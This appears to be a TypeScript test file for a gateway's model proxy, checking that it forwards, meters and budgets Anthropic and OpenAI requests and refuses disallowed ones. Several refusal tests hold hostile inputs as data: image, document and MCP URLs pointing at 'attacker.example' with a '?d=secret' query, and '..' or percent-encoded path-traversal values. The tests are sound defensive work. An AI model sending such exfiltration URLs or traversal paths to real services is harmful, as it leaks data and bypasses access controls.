import { readFileSync } from 'node:fs';
import { createServer, request as httpRequest, type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PLACEHOLDER_MODEL_KEY, type ModelAccess, type StoredEvent, type Worker } from '@svc/protocol';
import { waitFor } from '@svc/test-support';
import { startMockAnthropic, startMockOpenAI, type MockAnthropic, type MockOpenAI } from '@svc/test-support/stand-ins';
import { CLAUDE_CODE_2_1_330_HEADERS, CODEX_0_169_0_HEADERS } from '../test/recorded-cli-headers.js';
import { startGatewayFixture, type GatewayFixture } from '../test/fixture.js';

const ANTHROPIC_KEY = 'sk-ant-gateway-test-key';
const OPENAI_KEY = 'sk-proj-gateway-test-key';

interface RawAnswer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

/** A request sent as written (`fetch` would resolve `..` and re-encode the path). */
function rawRequest(base: string, path: string, options: { method: string; headers?: Record<string, string>; body?: string }): Promise<RawAnswer> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const request = httpRequest({ host: url.hostname, port: url.port, method: options.method, path, headers: options.headers }, (response) => {
      let body = '';
      response.on('data', (chunk: Buffer) => (body += chunk.toString()));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body }));
    });
    request.on('error', reject);
    request.end(options.body);
  });
}

/** A worker's stored history, and its view, as a person reads them. */
async function historyOf(gw: GatewayFixture, base: string, workerId: string): Promise<StoredEvent[]> {
  const token = await gw.userToken('alice');
  const response = await fetch(`${base}/v1/workers/${workerId}/sdk-events?limit=1000`, { headers: { authorization: `Bearer ${token}` } });
  return ((await response.json()) as { items: StoredEvent[] }).items;
}
async function workerViewOf(gw: GatewayFixture, base: string, workerId: string): Promise<Worker> {
  const token = await gw.userToken('alice');
  return (await (await fetch(`${base}/v1/workers/${workerId}`, { headers: { authorization: `Bearer ${token}` } })).json()) as Worker;
}
const refusalsIn = (history: StoredEvent[]) =>
  history.filter((e): e is StoredEvent<'system'> => e.type === 'system' && e.data.subtype === 'model_request_refused');

/** What the real CLIs sent, recorded against a stand-in (model-proxy/recorded-requests/*.json). */
interface RecordedRequests {
  requests: Array<{ what: string; expect: 'pass' | 'refused'; path: string; body: Record<string, unknown> }>;
}
const recorded = (file: string) => JSON.parse(readFileSync(new URL(`./model-proxy/recorded-requests/${file}`, import.meta.url), 'utf8')) as RecordedRequests;

describe('the model proxy: /v1/workers/{id}/model/{api}/*', () => {
  let gw: GatewayFixture;
  let base: string;
  let anthropic: MockAnthropic;
  let openai: MockOpenAI;
  /** An upstream that is not there. */
  let downUrl: string;

  beforeAll(async () => {
    [anthropic, openai] = await Promise.all([
      startMockAnthropic([{ text: 'Hello.' }, { text: 'Again.' }]),
      startMockOpenAI([{ text: 'Hi.' }, { text: 'Hi.' }]),
    ]);
    // Port 1: below the range the system hands out for port 0, so no test's server takes it
    // (a port freed here could be given to another test file's listener meanwhile).
    downUrl = 'http://127.0.0.1:1';
    gw = await startGatewayFixture(
      { anthropicApiKey: ANTHROPIC_KEY, anthropicUpstreamUrl: anthropic.url, openaiApiKey: OPENAI_KEY, openaiUpstreamUrl: openai.url.replace(/\/v1$/, '') },
      undefined,
      { services: true },
    );
    base = await gw.app.listen({ host: '127.0.0.1', port: 0 });
  }, 60_000);
  afterAll(async () => {
    await gw?.stop();
    await Promise.all([anthropic?.stop(), openai?.stop()]);
  });

  const worker = (id: string, model: ModelAccess | undefined = { apis: ['anthropic'] }) => gw.createWorker(id, 'alice', 'running', model ? { model } : {});
  const messages = (workerId: string, token: string | undefined, headers: Record<string, string> = {}) =>
    fetch(`${base}/v1/workers/${workerId}/model/anthropic/v1/messages?beta=true`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'anthropic-version': '2023-06-01',
        'x-api-key': PLACEHOLDER_MODEL_KEY,
        ...(token ? { authorization: `Bearer ${token}` } : {}),
        ...headers,
      },
      body: JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 100, stream: true, messages: [{ role: 'user', content: 'hi' }] }),
    });
  const events = async (workerId: string) => {
    const token = await gw.userToken('alice');
    const response = await fetch(`${base}/v1/workers/${workerId}/sdk-events?limit=1000`, { headers: { authorization: `Bearer ${token}` } });
    return ((await response.json()) as { items: StoredEvent[] }).items;
  };
  const workerView = async (workerId: string) => {
    const token = await gw.userToken('alice');
    return (await (await fetch(`${base}/v1/workers/${workerId}`, { headers: { authorization: `Bearer ${token}` } })).json()) as Worker;
  };

  it("model proxy — forwards the stream with the control plane's key (never the agent's), meters it, and records a progress event", async () => {
    const token = await worker('wrk_mp_ok');
    const before = anthropic.requests().length;
    const response = await messages('wrk_mp_ok', token);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/event-stream');
    const body = await response.text();
    expect(body).toContain('event: message_start');
    expect(body).toContain('"text":"Hello."');
    const headers = anthropic.requestHeaders()[before]!;
    expect(headers['x-api-key']).toBe(ANTHROPIC_KEY);
    expect(headers['authorization']).toBeUndefined();
    expect(headers['anthropic-version']).toBe('2023-06-01');
    expect(anthropic.requests()[before]).toMatchObject({ model: 'claude-sonnet-4-5', stream: true });

    // The mock's usage: 100 in, 24 out; at Sonnet's price $3 and $15 per million.
    await waitFor('the usage', async () => (await workerView('wrk_mp_ok')).model_usage?.requests === 1);
    expect((await workerView('wrk_mp_ok')).model_usage).toEqual({
      requests: 1,
      refused: 0,
      input_tokens: 100,
      output_tokens: 24,
      cache_read_tokens: 0,
      cost_usd: (100 * 3 + 24 * 15) / 1e6,
    });
    const progress = await waitFor('the progress event', async () =>
      (await events('wrk_mp_ok')).find((e): e is StoredEvent<'progress'> => e.type === 'progress'),
    );
    expect(progress.data).toEqual({
      input_tokens: 100,
      output_tokens: 24,
      cache_read_tokens: 0,
      cost_usd: (100 * 3 + 24 * 15) / 1e6,
      measured_by: 'model_proxy',
    });
    expect(gw.logs.join('\n')).not.toContain(ANTHROPIC_KEY);
  });

  it('model proxy — concurrent requests of one worker all count (usage gathered, written compare-and-set)', async () => {
    const token = await worker('wrk_mp_many');
    const responses = await Promise.all(
      Array.from({ length: 12 }, () => messages('wrk_mp_many', token).then(async (r) => ({ status: r.status, body: await r.text() }))),
    );
    expect(responses.every((r) => r.status === 200 && r.body.includes('message_stop'))).toBe(true);
    await waitFor('every request counted', async () => (await workerView('wrk_mp_many')).model_usage?.requests === 12, 5000);
    expect((await workerView('wrk_mp_many')).model_usage).toMatchObject({ input_tokens: 1200, output_tokens: 288 });
    // Each recorded progress event carries the totals so far; the last carries them all.
    const progress = await waitFor('the last progress event', async () =>
      (await events('wrk_mp_many')).filter((e): e is StoredEvent<'progress'> => e.type === 'progress').find((e) => e.data.input_tokens === 1200),
    );
    expect(progress.data).toMatchObject({ output_tokens: 288, measured_by: 'model_proxy' });
  });

  it('model proxy — OpenAI Responses: Bearer key, usage from response.completed (cached tokens are input too)', async () => {
    const token = await worker('wrk_mp_openai', { apis: ['openai'] });
    const before = openai.requests().length;
    const response = await fetch(`${base}/v1/workers/wrk_mp_openai/model/openai/v1/responses`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ model: 'gpt-5-mini', stream: true, input: [{ type: 'message', role: 'user', content: 'hi' }] }),
    });
    expect(response.status).toBe(200);
    expect(await response.text()).toContain('response.completed');
    expect(openai.requestHeaders()[before]!['authorization']).toBe(`Bearer ${OPENAI_KEY}`);
    await waitFor('the usage', async () => (await workerView('wrk_mp_openai')).model_usage?.requests === 1);
    // 1000 in (200 of them cached), 50 out, at gpt-5-mini's $0.25 / $0.025 cached / $2 per million.
    expect((await workerView('wrk_mp_openai')).model_usage).toMatchObject({
      input_tokens: 1000,
      output_tokens: 50,
      cache_read_tokens: 200,
      cost_usd: (800 * 0.25 + 200 * 0.025 + 50 * 2) / 1e6,
    });
  });

  it("model proxy — a missing token, or another worker's, is 401 and nothing is forwarded", async () => {
    await worker('wrk_mp_victim');
    const otherToken = await worker('wrk_mp_other');
    const before = anthropic.requests().length;
    const missing = await messages('wrk_mp_victim', undefined);
    expect(missing.status).toBe(401);
    expect(await missing.json()).toMatchObject({ code: 'unauthorized' });
    const other = await messages('wrk_mp_victim', otherToken);
    expect(other.status).toBe(401);
    expect(await other.json()).toMatchObject({ code: 'unauthorized' });
    const placeholder = await messages('wrk_mp_victim', PLACEHOLDER_MODEL_KEY);
    expect(placeholder.status).toBe(401);
    expect(anthropic.requests().length).toBe(before);
  });

  it("model proxy — an API the worker's template does not name, or one svc does not proxy, is 404", async () => {
    const token = await worker('wrk_mp_apis');
    const before = openai.requests().length;
    const notNamed = await fetch(`${base}/v1/workers/wrk_mp_apis/model/openai/v1/responses`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: '{}',
    });
    expect(notNamed.status).toBe(404);
    expect((await notNamed.json()) as { message: string }).toMatchObject({
      code: 'not_found',
      message: expect.stringContaining('does not use the openai model API'),
    });
    const unknown = await fetch(`${base}/v1/workers/wrk_mp_apis/model/gemini/v1/x`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: '{}',
    });
    expect(unknown.status).toBe(404);
    expect(openai.requests().length).toBe(before);
  });

  it("model proxy — past the budget a request is refused in the provider's shape; the history and the totals say why", async () => {
    const token = await worker('wrk_mp_budget', { apis: ['anthropic'], budget: { max_tokens: 50 } });
    expect((await messages('wrk_mp_budget', token)).status).toBe(200);
    await waitFor('the first request metered', async () => (await workerView('wrk_mp_budget')).model_usage?.requests === 1);
    const before = anthropic.requests().length;
    const refused = await messages('wrk_mp_budget', token);
    expect(refused.status).toBe(402);
    const body = (await refused.json()) as { type: string; error: { type: string; message: string } };
    expect(body).toMatchObject({ type: 'error', error: { type: 'billing_error' } });
    expect(body.error.message).toContain('token budget is used up (124 of max_tokens 50)');
    expect(anthropic.requests().length).toBe(before);
    expect((await workerView('wrk_mp_budget')).model_usage).toMatchObject({ requests: 1, refused: 1, budget_exhausted: true });
    const why = await waitFor('the refusal in the history', async () =>
      (await events('wrk_mp_budget')).find((e): e is StoredEvent<'system'> => e.type === 'system' && e.data.subtype === 'model_budget_exhausted'),
    );
    expect(why.data).toMatchObject({ level: 'error', message: expect.stringContaining('max_tokens 50') });
  });

  it("model proxy — an upstream that is down: 502 at once in the provider's shape, recorded; the next request works again", async () => {
    // No services behind it: what is asserted is the gateway's own answer (and its ledger, in KV).
    const down = await startGatewayFixture({ anthropicApiKey: ANTHROPIC_KEY, anthropicUpstreamUrl: downUrl });
    try {
      const downBase = await down.app.listen({ host: '127.0.0.1', port: 0 });
      const token = await down.createWorker('wrk_mp_down', 'alice', 'running', { model: { apis: ['anthropic'] } });
      const started = Date.now();
      const response = await fetch(`${downBase}/v1/workers/wrk_mp_down/model/anthropic/v1/messages`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: '{}',
      });
      expect(Date.now() - started).toBeLessThan(2000);
      expect(response.status).toBe(502);
      expect(await response.json()).toMatchObject({ type: 'error', error: { type: 'api_error', message: expect.stringContaining('ECONNREFUSED') } });
    } finally {
      await down.stop();
    }
  }, 60_000);

  it("model proxy — a request that cannot even be made upstream (a port out of range in the upstream's URL): 502 in the provider's shape, and its reservation is released", async () => {
    const broken = await startGatewayFixture({ anthropicApiKey: ANTHROPIC_KEY, anthropicUpstreamUrl: 'http://127.0.0.1:99999' });
    try {
      const brokenBase = await broken.app.listen({ host: '127.0.0.1', port: 0 });
      // A budget of about one request's reservation: a reservation left behind would hold the next request.
      const token = await broken.createWorker('wrk_mp_broken', 'alice', 'running', { model: { apis: ['anthropic'], budget: { max_tokens: 150 } } });
      for (let attempt = 0; attempt < 2; attempt++) {
        const response = await fetch(`${brokenBase}/v1/workers/wrk_mp_broken/model/anthropic/v1/messages`, {
          method: 'POST',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 100, messages: [] }),
        });
        expect(response.status, `attempt ${attempt}`).toBe(502);
        expect(await response.json()).toMatchObject({
          type: 'error',
          error: { type: 'api_error', message: expect.stringContaining('could not be forwarded') },
        });
      }
      expect((await workerViewOf(broken, brokenBase, 'wrk_mp_broken')).model_usage).toMatchObject({ requests: 0, refused: 0 });
    } finally {
      await broken.stop();
    }
  }, 60_000);

  it('model proxy — a model API without a key in the control plane is 503 and says which setting is missing', async () => {
    const keyless = await startGatewayFixture({}, undefined, {});
    try {
      const token = await keyless.createWorker('wrk_mp_keyless', 'alice', 'running', { model: { apis: ['anthropic'] } });
      const response = await keyless.app.inject({
        method: 'POST',
        url: '/v1/workers/wrk_mp_keyless/model/anthropic/v1/messages',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        payload: '{}',
      });
      expect(response.statusCode).toBe(503);
      expect(response.json()).toMatchObject({ code: 'unavailable', message: expect.stringContaining('SVC_ANTHROPIC_API_KEY') });
    } finally {
      await keyless.stop();
    }
  });

  it("model proxy — OpenAI: files, batches, a `..` or `%2f` path and an OpenAI-Organization header never reach the upstream; each refusal is the provider's 403 and a history event", async () => {
    const token = await worker('wrk_mp_narrow_openai', { apis: ['openai'] });
    const prefix = '/v1/workers/wrk_mp_narrow_openai/model/openai';
    const seen = openai.seen().length;
    const body = JSON.stringify({ model: 'gpt-5-mini', stream: true, input: [{ type: 'message', role: 'user', content: 'hi' }] });
    const attempts: Array<{ method: string; path: string; body?: string; headers?: Record<string, string> }> = [
      { method: 'GET', path: '/v1/files' },
      { method: 'DELETE', path: '/v1/files/x' },
      { method: 'POST', path: '/v1/batches', body: '{"input_file_id":"file-abc","endpoint":"/v1/responses","completion_window":"24h"}' },
      { method: 'POST', path: '/v1/responses/../files', body },
      { method: 'POST', path: '/v1/responses%2f..%2ffiles', body },
      { method: 'POST', path: '/v1/responses', body, headers: { 'OpenAI-Organization': 'org-someone-else' } },
      { method: 'POST', path: '/v1/responses', body, headers: { 'OpenAI-Project': 'proj_someone_else' } },
    ];
    for (const attempt of attempts) {
      const answer = await rawRequest(base, `${prefix}${attempt.path}`, {
        method: attempt.method,
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...attempt.headers },
        body: attempt.body,
      });
      expect(answer.status, `${attempt.method} ${attempt.path}`).toBe(403);
      expect(JSON.parse(answer.body), `${attempt.method} ${attempt.path}`).toEqual({
        error: { type: 'invalid_request_error', code: 'not_allowed_by_svc', param: null, message: expect.stringMatching(/^svc: /) },
      });
    }
    expect(openai.seen().slice(seen)).toEqual([]);
    const refusals = await waitFor('every refusal in the history', async () => {
      const found = refusalsIn(await events('wrk_mp_narrow_openai'));
      return found.length === attempts.length ? found : undefined;
    });
    expect(refusals.map((e) => e.data.level)).toEqual(attempts.map(() => 'warn'));
    expect(refusals.map((e) => e.data.details)).toEqual(
      expect.arrayContaining([
        { api: 'openai', method: 'GET', path: '/v1/files', reason: 'not_allowed' },
        { api: 'openai', method: 'DELETE', path: '/v1/files/x', reason: 'not_allowed' },
        { api: 'openai', method: 'POST', path: '/v1/responses%2f..%2ffiles', reason: 'not_allowed' },
      ]),
    );
    expect(refusals.map((e) => e.data.message)).toEqual(
      expect.arrayContaining([
        expect.stringContaining('GET "/v1/files" is not inference; the openai model proxy passes only POST /v1/responses, POST /v1/chat/completions'),
        expect.stringContaining('".." segment'),
        expect.stringContaining('percent-encoding'),
        expect.stringContaining('openai-organization header is not passed'),
        expect.stringContaining('openai-project header is not passed'),
      ]),
    );
    // Nothing was forwarded, so nothing was counted.
    expect((await workerView('wrk_mp_narrow_openai')).model_usage).toMatchObject({ requests: 0, refused: 0, input_tokens: 0 });
  });

  it('model proxy — Anthropic: files, message batches, an encoded path, an unlisted beta and an unlisted query never reach the upstream; a body that is not JSON is a 400', async () => {
    const token = await worker('wrk_mp_narrow_anthropic');
    const prefix = '/v1/workers/wrk_mp_narrow_anthropic/model/anthropic';
    const seen = anthropic.seen().length;
    const body = JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: 'hi' }] });
    const attempts: Array<{ method: string; path: string; body?: string; headers?: Record<string, string>; status: number; type: string }> = [
      { method: 'GET', path: '/v1/files', status: 403, type: 'permission_error' },
      { method: 'DELETE', path: '/v1/files/file-abc', status: 403, type: 'permission_error' },
      { method: 'POST', path: '/v1/messages/batches', body, status: 403, type: 'permission_error' },
      { method: 'POST', path: '/v1/messages%2F..%2Ffiles', body, status: 403, type: 'permission_error' },
      { method: 'POST', path: '/v1/messages/../files', body, status: 403, type: 'permission_error' },
      { method: 'POST', path: '/v1/messages?beta=true', body, headers: { 'anthropic-beta': 'files-api-2025-04-14' }, status: 403, type: 'permission_error' },
      { method: 'POST', path: '/v1/messages?beta=true&limit=1', body, status: 403, type: 'permission_error' },
      { method: 'POST', path: '/v1/messages', body: 'not json', status: 400, type: 'invalid_request_error' },
    ];
    for (const attempt of attempts) {
      const answer = await rawRequest(base, `${prefix}${attempt.path}`, {
        method: attempt.method,
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...attempt.headers },
        body: attempt.body,
      });
      expect(answer.status, `${attempt.method} ${attempt.path}`).toBe(attempt.status);
      expect(JSON.parse(answer.body)).toEqual({ type: 'error', error: { type: attempt.type, message: expect.stringMatching(/^svc: /) } });
    }
    expect(anthropic.seen().slice(seen)).toEqual([]);
    const refusals = await waitFor('every refusal in the history', async () => {
      const found = refusalsIn(await events('wrk_mp_narrow_anthropic'));
      return found.length === attempts.length ? found : undefined;
    });
    expect(refusals.map((e) => e.data.message)).toEqual(
      expect.arrayContaining([expect.stringContaining('"files-api-2025-04-14" is not passed'), expect.stringContaining('the request body is not JSON')]),
    );
  });

  it("model proxy — Claude Code's and Codex's own headers pass; others are dropped; the upstream is asked for identity; HEAD / is answered without the upstream", async () => {
    const token = await worker('wrk_mp_clients', { apis: ['anthropic', 'openai'] });
    const before = anthropic.requests().length;
    const claude = await messages('wrk_mp_clients', token, { ...CLAUDE_CODE_2_1_330_HEADERS, cookie: 'session=1', 'x-forwarded-for': '10.0.0.1' });
    expect(claude.status).toBe(200);
    expect(await claude.text()).toContain('message_stop');
    const upstreamSaw = anthropic.requestHeaders()[before]!;
    for (const [name, value] of Object.entries(CLAUDE_CODE_2_1_330_HEADERS)) expect(upstreamSaw[name], name).toBe(value);
    expect(upstreamSaw).toMatchObject({ 'accept-encoding': 'identity', 'x-api-key': ANTHROPIC_KEY });
    for (const dropped of ['cookie', 'x-forwarded-for', 'authorization', 'sec-fetch-mode']) expect(upstreamSaw[dropped], dropped).toBeUndefined();

    // Claude Code 2.1.197 warms its connection with `HEAD /`.
    const seen = anthropic.seen().length;
    const probe = await rawRequest(base, '/v1/workers/wrk_mp_clients/model/anthropic/', { method: 'HEAD', headers: { authorization: `Bearer ${token}` } });
    expect(probe.status).toBe(200);
    expect(anthropic.seen().length).toBe(seen);

    const beforeOpenAI = openai.requests().length;
    const codex = await fetch(`${base}/v1/workers/wrk_mp_clients/model/openai/v1/responses`, {
      method: 'POST',
      headers: { ...CODEX_0_169_0_HEADERS, authorization: `Bearer ${token}` },
      body: JSON.stringify({ model: 'gpt-5.5', stream: true, input: [{ type: 'message', role: 'user', content: 'hi' }] }),
    });
    expect(codex.status).toBe(200);
    expect(await codex.text()).toContain('response.completed');
    const openaiSaw = openai.requestHeaders()[beforeOpenAI]!;
    for (const [name, value] of Object.entries(CODEX_0_169_0_HEADERS)) expect(openaiSaw[name], name).toBe(value);
    expect(openaiSaw).toMatchObject({ 'accept-encoding': 'identity', authorization: `Bearer ${OPENAI_KEY}` });
    expect(refusalsIn(await events('wrk_mp_clients'))).toEqual([]);
  });

  it("model proxy — the real CLIs' recorded bodies pass: Claude Code's as sent, Codex's with store: false and without its web_search tool; Claude Code's WebSearch request is refused", async () => {
    const token = await worker('wrk_mp_cli_bodies', { apis: ['anthropic', 'openai'] });
    for (const file of ['claude-code-2.1.330.json', 'claude-code-2.1.197.json'])
      for (const request of recorded(file).requests) {
        const before = anthropic.requests().length;
        const answer = await rawRequest(base, `/v1/workers/wrk_mp_cli_bodies/model/anthropic${request.path}?beta=true`, {
          method: 'POST',
          headers: { ...CLAUDE_CODE_2_1_330_HEADERS, authorization: `Bearer ${token}` },
          body: JSON.stringify(request.body),
        });
        if (request.expect === 'refused') {
          expect(answer.status, request.what).toBe(403);
          expect(anthropic.requests().length).toBe(before);
          continue;
        }
        expect(answer.status, `${file}: ${request.what}`).toBe(200);
        expect(anthropic.requests()[before], request.what).toEqual(request.body);
      }
    for (const request of recorded('codex-0.169.0.json').requests) {
      const before = openai.requests().length;
      const answer = await rawRequest(base, `/v1/workers/wrk_mp_cli_bodies/model/openai${request.path}`, {
        method: 'POST',
        headers: { ...CODEX_0_169_0_HEADERS, authorization: `Bearer ${token}` },
        body: JSON.stringify(request.body),
      });
      expect(answer.status, request.what).toBe(200);
      const tools = request.body['tools'] as Array<{ type: string }>;
      expect(openai.requests()[before], request.what).toEqual({ ...request.body, store: false, tools: tools.filter((tool) => tool.type !== 'web_search') });
    }
    const refusals = await waitFor('the WebSearch refusal in the history', async () => {
      const found = refusalsIn(await events('wrk_mp_cli_bodies'));
      return found.length > 0 ? found : undefined;
    });
    expect(refusals.map((e) => e.data.details)).toEqual([
      { api: 'anthropic', method: 'POST', path: '/v1/messages', reason: 'not_allowed', field: 'tools[0].type' },
    ]);
  });

  it('model proxy — Anthropic bodies that would have the provider fetch a URL, search, run code, call MCP servers or read stored files never reach the upstream; each refusal names the field', async () => {
    const token = await worker('wrk_mp_body_anthropic');
    const seen = anthropic.seen().length;
    const ask = (blocks: unknown[], extra: Record<string, unknown> = {}) =>
      JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: blocks }], ...extra });
    const attempts: Array<{ body: string; field: string; status?: number }> = [
      { body: ask([{ type: 'image', source: { type: 'url', url: 'https://attacker.example/?d=secret' } }]), field: 'messages[0].content[0].source.type' },
      { body: ask([{ type: 'document', source: { type: 'url', url: 'https://attacker.example/x.pdf' } }]), field: 'messages[0].content[0].source.type' },
      { body: ask([{ type: 'document', source: { type: 'file', file_id: 'file_other' } }]), field: 'messages[0].content[0].source.type' },
      { body: ask([], { tools: [{ type: 'web_search_20250305', name: 'web_search' }] }), field: 'tools[0].type' },
      { body: ask([], { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }), field: 'tools[0].type' },
      { body: ask([], { mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }), field: 'mcp_servers' },
      { body: ask([], { container: 'container_other' }), field: 'container' },
      { body: ask([], { stream: 'true' }), field: 'stream', status: 400 },
    ];
    for (const attempt of attempts) {
      const answer = await rawRequest(base, '/v1/workers/wrk_mp_body_anthropic/model/anthropic/v1/messages?beta=true', {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: attempt.body,
      });
      expect(answer.status, attempt.field).toBe(attempt.status ?? 403);
      expect(JSON.parse(answer.body), attempt.field).toEqual({
        type: 'error',
        error: { type: attempt.status === 400 ? 'invalid_request_error' : 'permission_error', message: expect.stringContaining(`svc: ${attempt.field} `) },
      });
    }
    expect(anthropic.seen().slice(seen)).toEqual([]);
    const refusals = await waitFor('every refusal in the history', async () => {
      const found = refusalsIn(await events('wrk_mp_body_anthropic'));
      return found.length === attempts.length ? found : undefined;
    });
    expect(refusals.map((e) => e.data.details?.['field']).sort()).toEqual(attempts.map((a) => a.field).sort());
    expect((await workerView('wrk_mp_body_anthropic')).model_usage).toMatchObject({ requests: 0, input_tokens: 0 });
  });

  it('model proxy — OpenAI bodies with hosted tools, remote or stored inputs, stored prompts or items never reach the upstream; each refusal names the field', async () => {
    const token = await worker('wrk_mp_body_openai', { apis: ['openai'] });
    const seen = openai.seen().length;
    const responses = (extra: Record<string, unknown>, input: unknown[] = []) => JSON.stringify({ model: 'gpt-5-mini', stream: true, input, ...extra });
    const userImage = (part: Record<string, unknown>) => responses({}, [{ type: 'message', role: 'user', content: [{ type: 'input_image', ...part }] }]);
    const attempts: Array<{ path: string; body: string; field: string }> = [
      {
        path: '/v1/responses',
        body: responses({ tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' }] }),
        field: 'tools[0].type',
      },
      { path: '/v1/responses', body: responses({ tools: [{ type: 'file_search', vector_store_ids: ['vs_other'] }] }), field: 'tools[0].type' },
      { path: '/v1/responses', body: responses({ tools: [{ type: 'code_interpreter', container: 'cntr_other' }] }), field: 'tools[0].type' },
      { path: '/v1/responses', body: userImage({ image_url: 'https://attacker.example/?d=secret' }), field: 'input[0].content[0].image_url' },
      { path: '/v1/responses', body: userImage({ file_id: 'file_other' }), field: 'input[0].content[0].file_id' },
      {
        path: '/v1/responses',
        body: responses({}, [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/x.pdf' }] }]),
        field: 'input[0].content[0].file_url',
      },
      { path: '/v1/responses', body: responses({ prompt: { id: 'pmpt_other' } }), field: 'prompt' },
      { path: '/v1/responses', body: responses({}, [{ type: 'item_reference', id: 'msg_other' }]), field: 'input[0].type' },
      { path: '/v1/responses', body: responses({ previous_response_id: 'resp_other' }), field: 'previous_response_id' },
      {
        path: '/v1/chat/completions',
        body: JSON.stringify({
          model: 'gpt-5-mini',
          messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'http://attacker.example/' } }] }],
        }),
        field: 'messages[0].content[0].image_url.url',
      },
    ];
    for (const attempt of attempts) {
      const answer = await rawRequest(base, `/v1/workers/wrk_mp_body_openai/model/openai${attempt.path}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: attempt.body,
      });
      expect(answer.status, attempt.field).toBe(403);
      expect(JSON.parse(answer.body), attempt.field).toEqual({
        error: { type: 'invalid_request_error', code: 'not_allowed_by_svc', param: null, message: expect.stringContaining(`svc: ${attempt.field} `) },
      });
    }
    expect(openai.seen().slice(seen)).toEqual([]);
    const refusals = await waitFor('every refusal in the history', async () => {
      const found = refusalsIn(await events('wrk_mp_body_openai'));
      return found.length === attempts.length ? found : undefined;
    });
    expect(refusals.map((e) => e.data.details?.['field']).sort()).toEqual(attempts.map((a) => a.field).sort());

    // What passes goes with store: false, whatever the agent said.
    const before = openai.requests().length;
    const stored = await fetch(`${base}/v1/workers/wrk_mp_body_openai/model/openai/v1/responses`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'gpt-5-mini', stream: true, store: true, input: 'hi' }),
    });
    expect(stored.status).toBe(200);
    await stored.text();
    expect(openai.requests()[before]).toEqual({ model: 'gpt-5-mini', stream: true, store: false, input: 'hi' });
  });
});

/** What the odd upstream plays, chosen by the request's `model`. */
interface OddUpstream {
  url: string;
  /** Each request: its method, path, headers and body. */
  requests: Array<{ method: string; url: string; headers: IncomingHttpHeaders; body: Record<string, unknown> }>;
  /** The models whose stalled answer the upstream saw closed (the proxy let go of it). */
  closed: string[];
  /** The bytes of the `flood` answer the upstream could write so far (it waits whenever its socket holds back). */
  flooded(): number;
  stop(): Promise<void>;
}

/** How long the odd upstream's `slow` answer takes: every concurrent request arrives while the first is in flight. */
const SLOW_ANSWER_MS = 1000;
/** How long the odd upstream's `pause` answer stops after its first delta. */
const PAUSED_ANSWER_MS = 500;
/** The `flood` upstream wrote nothing for this long: the sockets between it and the stalled agent are full. */
const HELD_BACK_MS = 300;
/** How much the odd upstream's `flood` answer holds: far more than the sockets between it and a stalled agent buffer. */
const FLOOD_BYTES = 256 * 1024 * 1024;
const sse = (name: string, data: unknown) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`;
const ANTHROPIC_ANSWER = [
  sse('message_start', { type: 'message_start', message: { id: 'msg_odd', model: 'claude-sonnet-4-5', usage: { input_tokens: 100, output_tokens: 1 } } }),
  sse('content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: 'Hello from a gzip answer.' } }),
  sse('message_delta', { type: 'message_delta', delta: { stop_reason: 'end_turn' }, usage: { output_tokens: 24 } }),
  sse('message_stop', { type: 'message_stop' }),
];

/**
 * An upstream that misbehaves or speaks what the stand-ins do not: `gzip` answers an Anthropic
 * stream gzip-compressed whatever it was asked; `slow` answers it after `SLOW_ANSWER_MS`; `stall`
 * streams a start and three 30-character deltas (Anthropic) or two (Responses), then waits;
 * `pause` streams a start and a delta, and the rest `PAUSED_ANSWER_MS` later;
 * `flood` streams `FLOOD_BYTES` of deltas as fast as its socket takes them; `nousage` ends a
 * Responses stream normally with no usage in it; `/v1/chat/completions` streams a chunk and, when
 * asked for it, the usage.
 */
async function startOddUpstream(): Promise<OddUpstream> {
  const requests: OddUpstream['requests'] = [];
  const closed: string[] = [];
  let flooded = 0;
  const play = (request: IncomingMessage, response: ServerResponse, body: Record<string, unknown>) => {
    const model = String(body['model']);
    if (request.url?.startsWith('/v1/chat/completions')) {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(`data: ${JSON.stringify({ model, choices: [{ index: 0, delta: { content: 'Hi' } }], usage: null })}\n\n`);
      if ((body['stream_options'] as { include_usage?: boolean } | undefined)?.include_usage)
        response.write(`data: ${JSON.stringify({ model, choices: [], usage: { prompt_tokens: 300, completion_tokens: 20 } })}\n\n`);
      return void response.end('data: [DONE]\n\n');
    }
    if (model === 'gzip') {
      response.writeHead(200, { 'content-type': 'text/event-stream', 'content-encoding': 'gzip' });
      const gzip = zlib.createGzip();
      gzip.pipe(response);
      return void gzip.end(ANTHROPIC_ANSWER.join(''));
    }
